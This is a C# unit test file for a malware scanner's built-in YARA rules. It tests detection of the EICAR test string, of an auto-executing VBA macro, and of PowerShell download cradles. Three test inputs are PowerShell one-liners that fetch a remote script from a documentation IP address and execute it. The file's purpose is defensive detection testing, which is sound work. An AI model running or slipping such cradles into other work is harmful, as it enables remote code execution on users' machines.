using System.Text;
using Crible.Model;
using Crible.Scanners.Signatures.Yara;

namespace Crible.Tests.Scanners.Signatures.Yara;

public sealed class BuiltInRulesTests : IDisposable
{
    private const string Eicar = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private readonly YaraRuleSet _rules;

    public BuiltInRulesTests()
    {
        var compilation = YaraRuleSet.Compile(BuiltInRules.Load());
        Assert.Empty(compilation.Errors);
        Assert.Empty(compilation.Warnings);
        _rules = compilation.Rules;
    }

    public void Dispose() => _rules.Dispose();

    [Fact]
    public void Built_in_rules_are_embedded_and_all_written_by_Crible()
    {
        Assert.NotEmpty(BuiltInRules.Load());
        Assert.Contains(_rules.Rules, r => r.Identifier == "Crible_EICAR_Test_File");
        Assert.All(_rules.Rules, r => Assert.Equal("Crible", r.Meta("author")));
    }

    [Theory]
    [InlineData("eicar.com")]
    [InlineData("eicar.com.txt")]
    public async Task Eicar_test_file_is_reported_malicious_with_its_string_as_evidence(string file)
    {
        var report = await YaraTestKit.AnalyserFor(_rules).AnalyseFileAsync(TestPaths.Corpus("eicar", file));

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(YaraTestKit.YaraFindings(report));
        Assert.Equal("Crible_EICAR_Test_File", finding.Id);
        Assert.Equal(Severity.Malicious, finding.Severity);
        Assert.Equal("EICAR anti-virus test file", finding.Title);
        Assert.Equal("Crible", finding.Meta!["author"]);
        Assert.StartsWith("$eicar at 0x0: \"X5O!P%@AP[4\\x5cPZX54", finding.Evidence, StringComparison.Ordinal);
        Assert.Contains(report.DetectingEngines, e => e == "yara");
    }

    [Theory]
    [InlineData("\r\n")]
    [InlineData("   \t\x1a")]
    public async Task Eicar_string_followed_by_whitespace_is_still_the_test_file(string tail)
    {
        var report = await YaraTestKit.AnalyseBytesAsync(YaraTestKit.AnalyserFor(_rules), Encoding.ASCII.GetBytes(Eicar + tail), "eicar.txt");

        Assert.Equal(Verdict.Malicious, report.Verdict);
    }

    [Theory]
    [InlineData("", " and more text")]
    [InlineData("x", "")]
    public async Task Eicar_string_with_other_content_around_it_is_not_the_test_file(string head, string tail)
    {
        var report = await YaraTestKit.AnalyseBytesAsync(YaraTestKit.AnalyserFor(_rules), Encoding.ASCII.GetBytes(head + Eicar + tail), "eicar.txt");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.Empty(YaraTestKit.YaraFindings(report));
    }

    [Fact]
    public async Task Eicar_string_padded_past_128_bytes_is_not_the_test_file()
    {
        var report = await YaraTestKit.AnalyseBytesAsync(YaraTestKit.AnalyserFor(_rules), Encoding.ASCII.GetBytes(Eicar + new string(' ', 61)), "eicar.txt");

        Assert.Empty(YaraTestKit.YaraFindings(report));
    }

    [Fact]
    public async Task Auto_executing_macro_that_downloads_and_runs_is_suspicious_with_its_techniques()
    {
        var report = await YaraTestKit.AnalyserFor(_rules).AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.vba"));

        var finding = Assert.Single(YaraTestKit.YaraFindings(report));
        Assert.Equal("Crible_VBA_AutoExec_Downloads_And_Runs", finding.Id);
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal(["T1204.002", "T1059.005", "T1105"], finding.Attack);
        Assert.Equal(Verdict.Clean, report.Verdict);
    }

    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")]
    [InlineData("(New-Object System.Net.WebClient).DownloadString(\"http://203.0.113.9/a.ps1\") | Invoke-Expression")]
    [InlineData("iwr http://203.0.113.9/a.ps1 -UseBasicParsing | iex")]
    public async Task PowerShell_download_cradle_is_suspicious(string line)
    {
        var script = $"$ErrorActionPreference = 'SilentlyContinue'\r\n{line}\r\n";

        var report = await YaraTestKit.AnalyseBytesAsync(YaraTestKit.AnalyserFor(_rules), Encoding.UTF8.GetBytes(script), "update.ps1");

        var finding = Assert.Single(YaraTestKit.YaraFindings(report));
        Assert.Equal("Crible_PowerShell_Download_Cradle", finding.Id);
        Assert.Equal(Severity.Suspicious, finding.Severity);
    }

    [Fact]
    public void Built_in_rules_stay_quiet_on_benign_fixtures()
    {
        var benign = File.ReadLines(TestPaths.Corpus("strelka-fixtures", "labels.tsv"))
            .Skip(1)
            .Select(line => line.Split('\t'))
            .Where(columns => columns[3] is "benign" or "benign-extraction")
            .Select(columns => columns[0])
            .ToList();
        Assert.True(benign.Count > 50);

        var hits = benign
            .Select(name => (name, result: _rules.Scan(File.ReadAllBytes(TestPaths.Corpus("strelka-fixtures", name)), YaraExternals.Empty, TimeSpan.FromSeconds(10))))
            .SelectMany(x => x.result.Matches.Select(m => $"{x.name}: {m.Rule.Identifier}"))
            .ToList();

        Assert.Empty(hits);
    }
}
